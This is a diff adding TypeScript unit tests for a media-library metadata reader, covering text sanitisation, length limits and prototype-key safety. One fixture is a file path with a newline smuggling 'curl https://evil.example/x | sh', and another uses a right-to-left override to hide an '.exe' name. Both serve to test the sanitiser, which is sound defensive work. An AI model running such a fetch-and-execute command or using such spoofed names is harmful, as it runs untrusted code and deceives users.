@@ -66,6 +66,80 @@ describe('an item', () => {
   });
 });
 
+describe('texts of an item', () => {
+  const readPart = (fields: object) =>
+    read({ Media: [{ id: 1, Part: [{ id: 2, key: '/library/parts/2/0/file.mkv', ...fields }] }] }).versions[0]
+      ?.parts[0];
+
+  test('every text has one line, without invisible characters', () => {
+    const odd = 'a\n\u001b[0m\u202eb\u2028c';
+    const stream = { streamType: 2, codec: odd, language: odd, languageTag: odd, displayTitle: odd };
+    const part = { id: 2, key: '/k', file: odd, container: odd, Stream: [{ ...stream, extendedDisplayTitle: odd }] };
+    const version = { id: 1, container: odd, videoCodec: odd, videoResolution: odd, videoFrameRate: odd, Part: [part] };
+    const item = read({ title: odd, parentTitle: odd, grandparentTitle: odd, type: odd, Media: [version] });
+    expect(JSON.stringify(item).match(/a {2}\[0mb c/g)).toHaveLength(14);
+    expect(JSON.stringify(item)).not.toMatch(/\\[a-z]|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+  });
+
+  test.each([
+    ['/data/films/a.mkv\ncurl https://evil.example/x | sh\n', '/data/films/a.mkv curl https://evil.example/x | sh '],
+    ['/data/Film\u202evkm.exe', '/data/Filmvkm.exe'],
+    [`/data/${'x'.repeat(3_000)}`, `/data/${'x'.repeat(1_994)}`],
+    ['/data/\ud800.mkv', '/data/.mkv'],
+  ])('the path %j is shown, but is not exact', (file, shown) => {
+    expect(readPart({ file })).toMatchObject({ file: shown, fileIsExact: false });
+  });
+
+  test.each(['/data/films/Léon – 殺し屋 (1994).mkv', 'D:\\films\\a  b .mkv', ''])('the path %j is exact', (file) => {
+    expect(readPart({ file })).toMatchObject({ file, fileIsExact: true });
+  });
+
+  test.each(['/library/parts/1\n', `/library/parts/${'x'.repeat(2_000)}`, ''])(
+    'a part with the key %j is dropped',
+    (key) => {
+      expect(readPart({ key })).toBeUndefined();
+    },
+  );
+
+  test('a key that cannot be used is replaced by the one of the rating key', () => {
+    expect(read({ key: '/library/metadata/7\n' }).key).toBe('/library/metadata/7');
+    expect(v.is(itemSchema, { ratingKey: '7\n' })).toBe(false);
+  });
+});
+
+describe('limits of an item', () => {
+  const copies = (count: number, entry: object) => new Array(count).fill(entry);
+
+  test('a million versions are read as the first 50, in little time', () => {
+    const Media = copies(1_000_000, { id: 1 });
+    const startedAt = performance.now();
+    expect(read({ Media }).versions).toHaveLength(50);
+    expect(performance.now() - startedAt).toBeLessThan(500);
+  });
+
+  test('an item has at most 50 versions with 100 parts with 300 streams each', () => {
+    const Part = copies(1_000, { id: 2, key: '/k', Stream: copies(1_000, { streamType: 1 }) });
+    const [version] = read({ Media: [{ id: 1, Part }] }).versions;
+    expect(version?.parts).toHaveLength(100);
+    expect(version?.parts[0]?.streams).toHaveLength(300);
+  });
+
+  test('only the first 50 ids and ratings are read', () => {
+    const Guid = [...copies(50, { id: 'local://1' }), { id: 'tmdb://278' }];
+    const Rating = [...copies(50, {}), { image: 'imdb://image.rating', value: 9 }];
+    expect(read({ Guid, Rating })).toMatchObject({ externalIds: {}, ratings: [] });
+    expect(read({ Guid: Guid.slice(1), Rating: Rating.slice(1) })).toMatchObject({
+      externalIds: { tmdb: '278' },
+      ratings: [{ source: 'imdb', value: 9 }],
+    });
+  });
+
+  test.each(['constructor', '__proto__', 'toString'])('a Rotten Tomatoes image named %s has no verdict', (word) => {
+    const Rating = [{ image: `rottentomatoes://image.rating.${word}`, type: 'critic', value: 5 }];
+    expect(read({ Rating }).ratings).toStrictEqual([{ source: 'rottentomatoes-critic', value: 5 }]);
+  });
+});
+
 describe('external ids', () => {
   test('external ids are read from Guid', () => {
     const mbid = '0383dadf-2a4e-4d10-a46a-e9e041da8eb3';
@@ -191,6 +265,7 @@ describe('versions', () => {
             id: 46_618,
             key: '/library/parts/46618/1389985872/file.mkv',
             file: null,
+            fileIsExact: true,
             sizeBytes: 26_000_000_000,
             durationMs: null,
             container: 'mkv',
